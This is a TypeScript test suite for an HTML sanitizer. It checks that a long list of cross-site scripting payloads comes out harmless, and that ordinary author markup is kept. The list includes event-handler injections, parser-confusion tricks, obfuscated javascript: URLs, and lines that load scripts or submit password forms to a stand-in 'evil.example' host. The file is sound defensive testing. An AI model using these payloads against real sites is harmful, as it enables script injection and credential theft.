import fc from 'fast-check';
import { type DefaultTreeAdapterMap, parseFragment } from 'parse5';
import { describe, expect, test } from 'vitest';
import { deep } from '../../../../test/deep.ts';
import { allowedTags } from './allow-list.ts';
import { cleanHtml, createCleaner, HtmlTooLarge } from './clean-html.ts';

type Node = DefaultTreeAdapterMap['childNode'];

/** Read by a parser that follows browsers, not by the one that cleaned it. Whatever is left of it, a browser finds nothing in it but tags and attributes of the list, and no address that runs. */
function expectHarmless(html: string): void {
  const look = (nodes: readonly Node[]): void => {
    for (const node of nodes) {
      expect(['#text', ...Object.keys(allowedTags)]).toContain(node.nodeName);
      if (!('tagName' in node)) continue;
      expect(node.namespaceURI).toBe('http://www.w3.org/1999/xhtml');
      for (const { name, value } of node.attrs) {
        expect(name).not.toMatch(/^on|style|^name$|srcdoc|form|xlink|action|ping|target|background/i);
        if (name === 'href' || name === 'src')
          expect(value).toMatch(/^(\/(?![/\\])|https:\/\/|mailto:|tel:|#content-)/);
        if (name === 'id') expect(value).toMatch(/^content-/);
      }
      look(node.childNodes);
    }
  };
  look(parseFragment(html, { scriptingEnabled: true }).childNodes);
}

const hostile = [
  // Scripts, in all the places where they hide.
  '<script>alert(1)</script>',
  '<ScRiPt/src=//evil.example/x.js></sCrIpT >',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/a.png" onload="alert(1)" ONERROR=alert`1`>',
  '<img/src=`/x`/onerror=alert(1)//',
  '<p onclick=alert(1) onfocus = "alert(1)" autofocus tabindex=1>x</p>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<body onload=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<math><annotation-xml encoding="text/html"><svg onload=alert(1)></annotation-xml></math>',
  // Text that becomes a tag the second time it is read.
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mi><table><mglyph><style><![CDATA[</style><img src=x onerror=alert(1)>]]>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  '<template><script>alert(1)</script></template>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<table><caption><svg><title></caption><img src=x onerror=alert(1)>',
  // Addresses that run.
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" \u0001\u001f javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118ascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="javascript&#8203;:alert(1)">x</a>',
  '<a href="\u202ejavascript:alert(1)">x</a>',
  '<a href="\ufeffjavascript:alert(1)">x</a>',
  '<a href="view-source:javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="filesystem:https://evil.example/1">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<a href="https:evil.example">x</a>',
  '<a href="https://halley.test@evil.example">x</a>',
  '<a href="http://evil.example">x</a>',
  '<a href="mailto:a@b.c%0d%0abcc:all@b.c\r\nx">x</a>',
  '<a href="tel:+1;javascript:alert(1)">x</a>',
  '<img src="javascript:alert(1)"><img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="/x" srcset="javascript:alert(1)">',
  // What takes over the page without a script.
  '<div style="position:fixed;inset:0;z-index:9999">x</div>',
  '<div class="fixed inset-0 z-50 bg-black">x</div>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="/x.swf"><param name=x></object><embed src=/x>',
  '<form action="https://evil.example"><input name=password><button formaction=javascript:alert(1)>x</button></form>',
  '<input type=image src=x onerror=alert(1)>',
  '<dialog open>Log in again</dialog>',
  '<a id=location name=location href=/x>x</a><img id=document name=cookie src=/x>',
  '<a href="/x" target="_blank" ping="https://evil.example" download>x</a>',
  '<p slot=x is=x-y contenteditable draggable=true accesskey=x tabindex=99 hidden>x</p>',
  '<x-widget onclick=alert(1)>x</x-widget>',
  '<portal src=https://evil.example></portal>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<p =onclick=alert(1) "onclick=alert(1) onclick\u0000=alert(1) on\nclick=alert(1)>x',
  '<a\u0000 href=javascript:alert(1)>x',
  '<a href=https://evil.example/"onmouseover="alert(1)>x</a>',
  '<p title="&quot;><script>alert(1)</script>">x</p>',
  '<img alt="`><script>alert(1)</script>" src="/x`onerror=alert(1)">',
  '<a class="button" href="https://evil.example\u2028">x</a>',
  '<p id="__proto__" class="constructor hasOwnProperty">x</p>',
  '<table><tr><td><a href=javascript:alert(1)></table>x',
  '<a><b><a><b>'.repeat(10),
  '<',
  '</',
  '<!',
  '<a',
  '<a href="',
  '&#0;&#xD800;&#x110000;&notanentity;',
];

describe('hostile content is harmless', () => {
  test.each(hostile)('%j', (html) => {
    const cleaned = cleanHtml(html);
    expectHarmless(cleaned);
    expect(cleanHtml(cleaned)).toBe(cleaned);
  });

  test.each(hostile)('inside of ordinary text, which stays: %j', (html) => {
    const cleaned = createCleaner()(`<h2>Before</h2><p>Text ${html} more</p>`);
    expectHarmless(cleaned);
    expect(cleaned).toContain('<h2>Before</h2><p>Text ');
  });

  test('put together from anything, the result is harmless and a fixed point', () => {
    const part = fc.oneof(
      fc.constantFrom(...hostile),
      fc.constantFrom(
        '<table>',
        '<tr>',
        '<td>',
        '<p>',
        '<a href="/x">',
        '</a>',
        '<b>',
        '</b>',
        '<li>',
        '<pre>\n\n',
        '</p>',
      ),
      fc.constantFrom(
        '<svg>',
        '<math>',
        '<mtext>',
        '<foreignObject>',
        '<select>',
        '<template>',
        '<style>',
        '-->',
        '<h1>',
      ),
      fc.string({ unit: 'grapheme', maxLength: 12 }),
      fc.string({ unit: 'binary', maxLength: 12 }),
    );
    fc.assert(
      fc.property(fc.array(part, { maxLength: 14 }), (parts) => {
        const cleaned = createCleaner()(parts.join(''));
        expectHarmless(cleaned);
        expect(createCleaner()(cleaned)).toBe(cleaned);
      }),
      { numRuns: deep(100, 400) },
    );
  });
});

describe('what nobody writes by hand is refused before it takes long', () => {
  test.each([
    ['nested deep', '<div>'.repeat(30_000)],
    ['formatting that is opened anew in every block', '<p><b><i><u><s><em>'.repeat(5_000)],
    ['links in links', '<a href="/x"><p>'.repeat(10_000)],
    ['tables in tables', '<table><tr><td>'.repeat(10_000)],
    ['too long', 'x'.repeat(200_001)],
    ['too many elements', '<br>'.repeat(30_000)],
  ])('%s', (_what, html) => {
    expect(() => cleanHtml(html)).toThrow(HtmlTooLarge);
    expect(createCleaner()(html)).toBe('');
  });

  test.each([
    ['closing what was never open', '</p></b></i>'.repeat(10_000)],
    ['signs that look like tags', '<'.repeat(100_000)],
    ['a tag that never ends', `<p ${'a '.repeat(50_000)}`],
    ['one tag with thousands of attributes', `<p ${Array.from({ length: 20_000 }, (_, n) => `a${n}=1`).join(' ')}>x`],
    ['references', '&amp'.repeat(40_000)],
    ['comments', '<!--'.repeat(40_000)],
  ])('%s is read to its end', (_what, html) => {
    expectHarmless(createCleaner()(html));
  });
});

describe('what authors write stays', () => {
  test.each([
    '<h2>Title</h2>\n<p class="lead">A <strong>good</strong> text with <a href="/terms">a link</a>.</p>',
    '<ul><li>One</li><li>Two <em>and</em> more</li></ul>',
    '<table><caption>Fees</caption><thead><tr><th scope="col">Way</th></tr></thead><tbody><tr><td colspan="2">Card</td></tr></tbody></table>',
    '<p>5 &lt; 6 &amp; 7 &gt; 6 — „Grüße“ &nbsp;\u{1f44d}</p>',
    '<pre>\n\nfirst\n  second</pre>',
    '<p><a href="mailto:support@halley.test">Mail</a> <a href="tel:+18005550100">Call</a></p>',
    '<blockquote><p lang="fr" dir="ltr">Oui</p></blockquote><hr><p>a<br>b</p>',
    '<details open=""><summary>More</summary><p>Text</p></details>',
    '<figure><img src="/art/x.svg" alt="A comet" width="10" height="20" loading="lazy"><figcaption>It</figcaption></figure>',
  ])('%s', (html) => {
    expect(cleanHtml(html)).toBe(html);
  });

  test('links to other sites are marked, h1 becomes h2, ids get their prefix, and links to them too', () => {
    expect(cleanHtml('<a href="https://example.org/x">x</a>')).toBe(
      '<a href="https://example.org/x" rel="noopener nofollow">x</a>',
    );
    expect(cleanHtml('<a rel="opener" href="HTTPS://example.org">x</a>')).toContain('rel="noopener nofollow"');
    expect(cleanHtml('<h1 id="top">x</h1><a href="#top">up</a>')).toBe(
      '<h2 id="content-top">x</h2><a href="#content-top">up</a>',
    );
  });

  test('of unknown classes and tags only the text stays', () => {
    expect(cleanHtml('<font color=red class="note evil">x <blink>y</blink></font>')).toBe('x y');
    expect(cleanHtml('<p class="note evil  note">x</p>')).toBe('<p class="note">x</p>');
  });
});
